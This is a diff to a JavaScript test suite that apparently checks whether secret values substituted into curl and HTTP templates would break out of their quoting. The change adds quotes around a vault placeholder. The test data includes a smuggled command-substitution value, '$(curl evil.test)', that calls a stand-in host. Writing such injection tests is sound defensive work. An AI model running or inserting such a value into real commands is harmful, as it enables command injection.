@@ -94,7 +94,7 @@ describe('a value that would end what it stands in', () => {
     expanded: '$(curl evil.test)',
     single: `it's`,
   };
-  const RESTRICTED = 'curl https://api.example.com -u {{vault:A}}';
+  const RESTRICTED = 'curl https://api.example.com -u "{{vault:A}}"';
 
   beforeEach(async () => {
     for (const [name, value] of Object.entries(VALUES)) {
@@ -119,7 +119,7 @@ describe('a value that would end what it stands in', () => {
     [`${RESTRICTED} -H 'X: {{vault:lines}}'`, ['lines']],
     [`${RESTRICTED}\n# {{vault:lines}}`, ['lines']],
     [`${RESTRICTED} -d @- <<EOF\n{{vault:expanded}}\nEOF`, ['expanded']],
-    [`curl ^\n https://api.example.com -u {{vault:A}} -d "{{vault:expanded}}"`, ['expanded']],
+    [`curl ^\n https://api.example.com -u "{{vault:A}}" -d "{{vault:expanded}}"`, ['expanded']],
     ['GET https://api.example.com\nX: {{vault:A}}\nY: {{vault:lines}}', ['lines']],
     ['GET https://api.example.com\nX: {{vault:A}}\nY: {{vault:quotes}}', []],
     ['{"url": "https://api.example.com", "key": "{{vault:A}} {{vault:quotes}}"}', ['quotes']],
